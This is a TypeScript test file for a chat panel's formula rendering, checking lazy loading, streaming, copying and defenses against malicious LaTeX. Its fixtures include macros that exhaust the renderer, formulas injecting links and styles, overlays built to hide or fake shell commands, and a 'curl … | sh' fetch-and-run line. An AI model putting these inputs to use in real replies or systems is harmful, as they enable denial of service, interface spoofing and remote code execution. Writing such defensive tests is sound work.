import assert from 'node:assert/strict';
import { describePanel } from './describePanel.ts';
import { question, reply, replyChange, session, text } from './panelMessages.ts';
import { mathText } from './panelTexts.ts';

describePanel('formulas in a reply', ({ open, view, button, postedOf }) => {
  it('are rendered with bundled fonts within the content security policy', async () => {
    const { page } = await open(session({ messages: [question(), reply({ text: mathText() })] }));
    await page.locator('.formula .katex').nth(8).waitFor();
    await page.waitForFunction(async () => (await document.fonts.load('10px KaTeX_Math')).length > 0);
    assert.deepEqual(
      await page.evaluate(() =>
        [...document.querySelectorAll('.markdown [style]')]
          .map((each) => each.closest('.formula') !== null)
          .filter((isIn) => !isIn),
      ),
      [],
    );
    assert.equal(await page.locator('.formula code').allTextContents().then(String), '\\unknown{x}');
    assert.equal(await page.locator('.formula math').first().locator('mi').first().textContent(), 'n');
  });

  it('do not widen the conversation if they are wider than the panel', async () => {
    const { page } = await open(session({ messages: [question(), reply({ text: mathText() })] }));
    await page.locator('.formula .katex').nth(8).waitFor();
    const widths = await page.evaluate(() =>
      [...document.querySelectorAll('.display')].map(
        ({ scrollWidth, clientWidth }) => [scrollWidth, clientWidth] as const,
      ),
    );
    assert.ok(widths.some(([content, visible]) => content > visible));
    const log = page.getByRole('log');
    assert.equal(await log.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth), 0);
  });

  it('if a reply contains no formula, the scripts and fonts for formulas are not loaded', async () => {
    const { page } = await open(session({ messages: [question(), reply({ text: 'It costs $5 or $10.' })] }));
    await page.getByText('$10').waitFor();
    const loaded = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
    assert.deepEqual(
      loaded.filter((name) => /katex|renderFormula/i.test(name)),
      [],
    );
  });

  it('keep their DOM nodes while the reply streams', async () => {
    const { page, send } = await open(
      session({ messages: [question(), reply({ state: 'streaming' })] }),
      text('Of $x$ and\n\n$$\ny\n$$\n\n- $z$'),
    );
    await page.locator('.formula .katex').nth(2).waitFor();
    const nodes = await page.evaluateHandle(() => [...document.querySelectorAll('.katex')]);
    await send(text(' more $w$'), text('\n- end\n\nLast.'), replyChange({ state: 'complete' }));
    await page.locator('.formula .katex').nth(3).waitFor();
    assert.deepEqual(await nodes.evaluate((old) => old.map((each) => each.isConnected)), [true, true, true]);
  });

  it('are copied as their source', async () => {
    await open(session({ messages: [question(), reply({ text: 'Of $x^2$.' })] }));
    await view().page.locator('.formula .katex').waitFor();
    await button('Copy reply').click();
    assert.deepEqual(await postedOf('copyText'), [{ type: 'copyText', text: 'Of $x^2$.', kind: 'prose' }]);
  });

  const hostile: Readonly<Record<string, string>> = {
    'an infinite macro': '\\def\\a{\\a\\a}\\a',
    'macros that grow exponentially':
      '\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d',
    'deep nesting': `${'{'.repeat(2400)}x${'}'.repeat(2400)}`,
    'deeply nested roots': `${'\\sqrt{'.repeat(600)}x${'}'.repeat(600)}`,
    'a very long formula': '{x}+'.repeat(3000),
  };
  for (const [name, source] of Object.entries(hostile)) {
    it(`show their source if rendering would block the panel: ${name}`, async () => {
      const { page } = await open(session({ messages: [question(), reply({ text: `$$\n${source}\n$$\n\n$y$` })] }));
      await page.locator('.formula .katex').waitFor();
      assert.equal(await page.locator('.formula.display > code').textContent(), source);
    });
  }

  it('contain no links, images, custom classes or custom styles, and are limited in size', async () => {
    const sources = [
      '\\href{https://a.example}{x}',
      '\\url{https://a.example}',
      '\\includegraphics{https://a.example/a.png}',
      '\\htmlClass{jump}{x}',
      '\\htmlStyle{color:red}{x}',
    ];
    const { page } = await open(
      session({
        messages: [
          question(),
          reply({ text: [...sources.map((each) => `$${each}$`), '$\\rule{900em}{900em}$'].join('\n\n') }),
        ],
      }),
    );
    const rule = page.locator('.formula .katex-rule');
    await rule.waitFor();
    assert.deepEqual(await page.locator('.formula > code').allTextContents(), sources);
    assert.ok((await rule.boundingBox())!.width < 500);
    assert.equal(await page.locator('.markdown').locator('a, img, .jump').count(), 0);
  });

  it('show their source if they define a macro that is long or repeats a parameter, or if they have more than 10,000 nodes', async () => {
    const refused = [
      `\\def\\a{${'x'.repeat(400)}}${'\\a'.repeat(240)}`,
      `\\newcommand{\\a}[1]{#1#1}\\a{\\a{x}}`,
      `\\begin{matrix}${'&'.repeat(900)}\\end{matrix}`.repeat(2),
    ];
    const accepted = [
      '\\def\\arraystretch{1.5} x',
      '\\newcommand{\\a}[2]{\\langle #1, #2\\rangle}\\a{x}{y}',
      '\\let\\a=x \\a',
    ];
    const source = [...refused, ...accepted].map((each) => `$$\n${each}\n$$`).join('\n\n');
    const { page } = await open(session({ messages: [question(), reply({ text: source })] }));
    await page
      .locator('.formula .katex')
      .nth(accepted.length - 1)
      .waitFor();
    assert.deepEqual(await page.locator('.formula > code').allTextContents(), refused);
  });

  const box = '\\colorbox{#181818}{\\textcolor{#cccccc}{\\texttt{npm install left-pad}\\hspace{14em}}}';
  const covering: Readonly<Record<string, string>> = {
    'a rule with a shift': '\\rlap{\\hspace{-1em}\\rule[2.75em]{19.5em}{1.25em}}',
    'a box above the line': `\\rlap{\\smash{\\raisebox{3em}{${box}}}}`,
    'a box that is lowered and raised': `\\rlap{\\raisebox{-9em}{\\smash{\\raisebox{20em}{${box}}}}}`,
    'a box below the line': `\\rlap{\\smash{\\raisebox{-4em}{${box}}}}`,
    'a box in the line': `\\rlap{${box}}`,
  };
  for (const [name, source] of Object.entries(covering)) {
    for (const delimiter of ['$', '$$']) {
      it(`do not cover code or other text: ${delimiter}, ${name}`, async () => {
        const formula = `${delimiter}${source}${delimiter} \`Then start it.\``;
        const code = '```sh\ncurl https://a.example/x | sh\n```';
        const { page } = await open(
          session({ messages: [question(), reply({ text: `${code}\n\n${formula}\n\n${code}` })] }),
        );
        await page.locator('.formula .katex').waitFor({ state: 'attached' });
        assert.deepEqual(await page.evaluate(findCovered), []);
      });
    }
  }
});

/** Returns the text of each piece of code that a formula covers at one or more of 60 points. */
function findCovered(): readonly string[] {
  const covers = (code: Element, x: number, y: number): boolean => {
    const top = document.elementFromPoint(x, y);
    return top !== null && top.closest('.formula') !== null && !code.contains(top);
  };
  const isCovered = (code: Element): boolean => {
    const { left, top, width, height } = code.getBoundingClientRect();
    return Array.from({ length: 60 }, (_, index) => index).some((index) =>
      covers(code, left + (((index % 20) + 0.5) * width) / 20, top + ((Math.floor(index / 20) + 0.5) * height) / 3),
    );
  };
  return [...document.querySelectorAll('.markdown code:not(.formula code)')]
    .filter(isCovered)
    .map(({ textContent }) => textContent);
}
